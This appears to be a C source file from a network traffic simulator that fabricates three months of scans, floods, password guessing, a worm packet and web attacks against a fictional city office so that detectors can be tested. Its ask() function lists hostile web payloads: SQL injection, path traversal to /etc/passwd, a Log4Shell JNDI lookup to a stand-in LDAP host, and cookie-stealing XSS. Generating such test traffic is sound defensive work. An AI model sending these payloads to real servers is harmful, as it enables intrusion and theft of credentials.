/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * quarter.c - three months at a city office, whose attempts number what a newspaper printed.
 *
 * Every act here is an attempt by construction, whatever the detectors think: each scanner knocks on doors that
 * nobody opens, and on no door twice; each request is one that no visitor makes; passwords are refused at least
 * three times; a NULL segment is sent by nobody in good faith. All is decided within the hour it is made in. The ledger
 * takes the sums.
 */
#include "scene.h"

#include <stdio.h>
#include <stdlib.h>
#include <time.h>

enum {
	TOTAL = 957254, DAYS = 93, HOURS = DAYS * 24, COUNTRIES = 40, HOSTS = 8, NAMES = 4, REGULARS = 11,
	CITY = 0x675ebc00, FIRST_HOST = 10, FIRST_SERVER = 20, RESOLVER = 53,
	FLOOD_HOUR = 48 * 24 + 10, FLOOD_SOURCES = 1000000, FLOOD_SECONDS = 100,
	OUTAGE_FROM = 45 * 24 + 20, OUTAGE_TO = 47 * 24 + 6,
};

static const uint64_t BEGIN = 1657645200; /* 2022-07-13 00:00 in Jakarta */

static const struct { unsigned from, to, times; } surges[] = { /* hours */
	{ 23 * 24 + 22, 26 * 24 + 4, 4 }, /* 5 August 22:00 to 8 August 04:00 */
	{ 63 * 24 + 9, 65 * 24 + 9, 6 },  /* 14 September 09:00 to 16 September 09:00 */
};

static const char countries[COUNTRIES][3] = { "US", "CN", "NL", "ID", "RU", "SG", "DE", "VN", "IN", "BR", "FR", "GB", "KR",
	"HK", "BG", "TW", "JP", "UA", "TH", "CA", "IR", "TR", "PL", "IT", "MY", "RO", "MX", "ZA", "SE", "PH", "ES", "PK",
	"BD", "AR", "LT", "CZ", "EG", "AU", "CL", "KE" };

static const char names[NAMES][32] = { "www.example.go.id", "dukcapil.example.go.id", "ppid.example.go.id",
	"lapor.example.go.id" };

struct quarter {
	struct scene *scene;
	uint32_t used[COUNTRIES];   /* addresses of each so far */
	uint64_t hour_ns;
	char hour[32];
};

/* ---- who and when ---- */

/* Country i has the network 41+i.77.0.0/16. */
static struct ronda_addr newcomer(struct quarter *quarter, unsigned country)
{
	uint32_t n = 1 + quarter->used[country]++;

	return v4((41 + country) << 24 | 77u << 16 | n * 40503u % 65536);
}

/* The first ones more often: about as one over their place in the list. */
static unsigned some_country(struct scene *scene)
{
	uint32_t all = 0, dice;

	for (unsigned i = 0; i < COUNTRIES; i++)
		all += 1000 / (i + 2);
	dice = below(scene, all);
	for (unsigned i = 0;; i++) {
		if (dice < 1000 / (i + 2))
			return i;
		dice -= 1000 / (i + 2);
	}
}

static void book(struct quarter *quarter, unsigned country, const char *class, const char *site, uint64_t times)
{
	struct ledger *ledger = quarter->scene->ledger;
	const char *code = countries[country];

	ledger_attempts(ledger, class, times);
	ledger_tally(ledger, "by_class", class, times);
	ledger_tally(ledger, "by_country", code, times);
	ledger_tally(ledger, "by_origin", memcmp(code, "ID", 2) == 0 ? "domestic" : "foreign", times);
	ledger_tally(ledger, "by_site", site, times);
	ledger_tally(ledger, "by_hour", quarter->hour, times);
	ledger_tally(ledger, "total", "attempts", times);
}

static struct end host(unsigned i, uint16_t port)
{
	return (struct end){ v4(CITY + FIRST_HOST + i), port };
}

static const char *host_name(unsigned i, char text[20])
{
	snprintf(text, 20, "103.94.188.%u", FIRST_HOST + i);
	return text;
}

/* From the second minute on, so that all of it is over by the fifty-seventh. */
static uint64_t some_time(struct quarter *quarter, uint64_t lasting_ns)
{
	return quarter->hour_ns + between(quarter->scene, SECONDS(60), SECONDS(57 * 60) - lasting_ns);
}

/* ---- what is tried ---- */

/* `times` doors, each another one. */
static void knock(struct quarter *quarter, struct ronda_addr source, unsigned country, unsigned times)
{
	struct scene *scene = quarter->scene;
	uint64_t pace = between(scene, MILLISECONDS(50), SECONDS(4)), at = some_time(quarter, times * pace);
	uint32_t first_port = 1 + below(scene, 20000), habit = below(scene, 100);
	unsigned counts[HOSTS] = { 0 };
	char text[20];

	for (unsigned i = 0; i < times; i++, at += pace) {
		struct end from = { source, (uint16_t)(1024 + (first_port + i * 7) % 60000) };
		struct end to = host(i % HOSTS, (uint16_t)(first_port + i / HOSTS));
		enum act_outcome outcome = habit < 70 ? ACT_UNANSWERED : ACT_REFUSED;

		if (i > 8 && i % 23 == 0)
			outcome = ACT_ANSWERED;
		if (i > 8 && i % 61 == 0)
			outcome = ACT_ESTABLISHED;
		probe_tcp(scene, from, to, at, outcome);
		counts[i % HOSTS]++;
	}
	for (unsigned i = 0; i < HOSTS; i++)
		if (counts[i])
			book(quarter, country, "probe", host_name(i, text), counts[i]);
}

static void creep(struct quarter *quarter, unsigned times)
{
	struct scene *scene = quarter->scene;
	unsigned country = some_country(scene);
	struct ronda_addr source = newcomer(quarter, country);
	uint64_t at = some_time(quarter, times * MILLISECONDS(300));
	unsigned target = below(scene, HOSTS);
	char text[20];

	for (unsigned i = 0; i < times; i++) {
		struct end from = { source, (uint16_t)(30000 + i) };
		struct frame frame;

		segment(&frame, from, host(target, (uint16_t)(20 + i)), 0, 1, 0, NULL, 0);
		put(scene, &frame, at + i * MILLISECONDS(300));
	}
	book(quarter, country, "stealth", host_name(target, text), times);
}

static void ask(struct quarter *quarter, struct end from, struct end server, uint64_t at, const char *site, unsigned i)
{
	static const struct { const char *target; unsigned status; } requests[] = {
		{ "/.env", 404 }, { "/berita.php?id=1%27%20union%20select%201,2,concat(user,0x3a,password)%20from%20users--%20-", 403 },
		{ "/download.php?file=../../../../../../etc/passwd", 404 }, { "/.git/config", 403 },
		{ "/?x=${jndi:ldap://203.0.113.9:1389/a}", 200 }, { "/cari?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200 },
	};
	static const char page[] = "<html></html>\n";
	char text[500];
	struct talk talk = talk_open(quarter->scene, from, server, at, MILLISECONDS(30));
	unsigned kind = i % 24 == 23 ? 4 + i % 2 : i % 4;

	talk_say(&talk, text, (size_t)snprintf(text, sizeof text, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", requests[kind].target, site));
	talk_hear(&talk, text, (size_t)snprintf(text, sizeof text, "HTTP/1.1 %u X\r\nContent-Type: text/html\r\n"
		"Content-Length: %zu\r\n\r\n%s", requests[kind].status, sizeof page - 1, page));
	talk_close(&talk);
}

static void browse(struct quarter *quarter, unsigned times)
{
	struct scene *scene = quarter->scene;
	unsigned country = some_country(scene), name = below(scene, NAMES);
	struct ronda_addr source = newcomer(quarter, country);
	uint64_t at = some_time(quarter, times * SECONDS(1));
	struct end server = { v4(CITY + FIRST_SERVER + name), 80 };

	for (unsigned i = 0; i < times; i++) {
		struct end from = { source, (uint16_t)(40000 + i) };

		ask(quarter, from, server, at + i * SECONDS(1), names[name], i);
	}
	book(quarter, country, "web", names[name], times);
}

static void guess(struct quarter *quarter, unsigned times)
{
	struct scene *scene = quarter->scene;
	unsigned country = some_country(scene), target = below(scene, HOSTS);
	struct ronda_addr source = newcomer(quarter, country);
	uint64_t at = some_time(quarter, times * SECONDS(2));
	char text[20];

	attack_ftp(scene, (struct end){ source, 0 }, host(target, 21), at, times);
	book(quarter, country, "login", host_name(target, text), times);
	ledger_attempts(scene->ledger, "login", (uint64_t)0 - times); /* attack_ftp() entered them, too */
}

static void worm(struct quarter *quarter)
{
	struct scene *scene = quarter->scene;
	unsigned country = some_country(scene), target = below(scene, HOSTS);
	struct ronda_addr source = newcomer(quarter, country);
	uint64_t at = some_time(quarter, 0);
	char text[20];

	attack_slammer(scene, (struct end){ source, 3000 }, host(target, 1434), at);
	book(quarter, country, "exploit", host_name(target, text), 1);
	ledger_attempts(scene->ledger, "exploit", (uint64_t)0 - 1);
}

/* ---- hours ---- */

static bool is_out(unsigned hour)
{
	return hour >= OUTAGE_FROM && hour < OUTAGE_TO;
}

/* How busy an hour is, beside the others. */
static uint64_t weight(struct scene *scene, unsigned hour)
{
	static const uint8_t day[24] = { 112, 110, 104, 98, 92, 88, 86, 90, 98, 104, 106, 104, 100, 98, 100, 102, 100, 96, 94, 96, 102,
		108, 112, 114 };
	uint64_t busy = day[hour % 24] * (hour / 24 % 7 == 4 || hour / 24 % 7 == 3 ? 85 : 100); /* it began on a Wednesday */

	busy = busy * between(scene, 92, 109) / 100;
	for (size_t i = 0; i < sizeof surges / sizeof *surges; i++)
		if (hour >= surges[i].from && hour < surges[i].to)
			busy *= surges[i].times;
	return is_out(hour) ? 0 : busy;
}

/* TOTAL over the hours by their weights, to the last one. */
static void allot(struct scene *scene, uint32_t attempts[HOURS])
{
	static uint64_t weights[HOURS];
	uint64_t all = 0, so_far = 0, given = 0;

	for (unsigned i = 0; i < HOURS; i++)
		all += weights[i] = weight(scene, i);
	for (unsigned i = 0; i < HOURS; i++) {
		so_far += weights[i];
		attempts[i] = (uint32_t)(TOTAL * so_far / all - given);
		given += attempts[i];
	}
}

/* Those who come each hour: one of each of the first countries, and a research scanner. */
static struct ronda_addr regular(unsigned i, unsigned *country)
{
	*country = i;
	return i == 0 ? v4(0x47068783) : v4((41 + i) << 24 | 77u << 16 | 65535); /* 71.6.135.131 */
}

static uint32_t regulars(struct quarter *quarter, uint32_t left)
{
	uint32_t made = 0;

	for (unsigned i = 0; i < REGULARS; i++) {
		unsigned country, times = left / 60 + 2 * (REGULARS - i) / 3;
		struct ronda_addr source = regular(i, &country);

		knock(quarter, source, country, times < 6 ? 6 : times);
		made += times < 6 ? 6 : times;
	}
	return made;
}

/* What else comes, until `left` are made; a scanner needs six at least to be known for one. */
static void others(struct quarter *quarter, uint32_t left)
{
	struct scene *scene = quarter->scene;

	while (left) {
		uint32_t times = 6 + below(scene, 90);
		unsigned country;
		struct ronda_addr source;

		if (left < times + 6)
			times = left;
		country = some_country(scene);
		source = newcomer(quarter, country);
		knock(quarter, source, country, times);
		left -= times;
	}
}

static void small_things(struct quarter *quarter, uint32_t *left)
{
	struct scene *scene = quarter->scene;
	uint32_t requests = *left / 40, segments = *left / 20, guesses = one_in(scene, 4) ? 3 + below(scene, 9) : 0;
	uint32_t worms = one_in(scene, 5);

	if (requests)
		browse(quarter, requests);
	if (segments)
		creep(quarter, segments);
	if (guesses)
		guess(quarter, guesses);
	if (worms)
		worm(quarter);
	*left -= requests + segments + guesses + worms;
}

/* So that an hour is heard of from its beginning to its end. */
static void heartbeat(struct quarter *quarter)
{
	static const double minutes[] = { 0, 15, 30, 45, 59.9 };

	for (size_t i = 0; i < sizeof minutes / sizeof *minutes; i++)
		dns(quarter->scene, (struct end){ v4(0x24500a0b), (uint16_t)(2000 + i) },
			(struct end){ v4(CITY + RESOLVER), 53 }, quarter->hour_ns + SECONDS(60 * minutes[i]));
}

/* A million forged senders, each once, at one door. */
static void flood(struct quarter *quarter)
{
	struct scene *scene = quarter->scene;
	struct end target = { v4(CITY + FIRST_SERVER), 443 };
	struct frame frame;

	for (uint64_t i = 0; i < FLOOD_SOURCES; i++) {
		struct end from = { elsewhere(i), (uint16_t)(1024 + i % 60000) };

		syn(&frame, from, target, (uint32_t)i);
		put(scene, &frame, quarter->hour_ns + SECONDS(1200) + i * SECONDS(FLOOD_SECONDS) / FLOOD_SOURCES);
	}
	ledger_flood(scene->ledger, "syn", target, FLOOD_SOURCES, FLOOD_SOURCES);
}

static void moment(uint64_t seconds, char text[32])
{
	time_t at = (time_t)seconds;
	struct tm utc;

	gmtime_r(&at, &utc);
	strftime(text, 32, "%Y-%m-%dT%H:%M:%SZ", &utc);
}

static void tell_facts(struct scene *scene)
{
	char key[32], text[32];

	for (unsigned i = 0; i < COUNTRIES; i++) {
		snprintf(key, sizeof key, "%u.77.0.0/16", 41 + i);
		ledger_fact(scene->ledger, "places", key, countries[i]);
	}
	ledger_fact(scene->ledger, "places", "71.6.135.131/32", countries[0]);
	for (size_t i = 0; i < sizeof surges / sizeof *surges; i++) {
		moment(BEGIN + 3600ull * surges[i].from, key);
		moment(BEGIN + 3600ull * surges[i].to, text);
		ledger_fact(scene->ledger, "surges", key, text);
	}
	moment(BEGIN + 3600ull * OUTAGE_FROM, key);
	moment(BEGIN + 3600ull * OUTAGE_TO, text);
	ledger_fact(scene->ledger, "outage", key, text);
}

void play_quarter(struct scene *scene)
{
	static uint32_t attempts[HOURS];
	struct quarter quarter = { .scene = scene };

	allot(scene, attempts);
	tell_facts(scene);
	for (unsigned hour = 0; hour < HOURS; hour++) {
		uint32_t left = attempts[hour];

		if (is_out(hour))
			continue;
		quarter.hour_ns = SECONDS(1) * (BEGIN + 3600ull * hour);
		moment(BEGIN + 3600ull * hour, quarter.hour);
		heartbeat(&quarter);
		left -= regulars(&quarter, left);
		small_things(&quarter, &left);
		others(&quarter, left);
		if (hour == FLOOD_HOUR)
			flood(&quarter);
		tape_flush(scene->tape);
	}
}
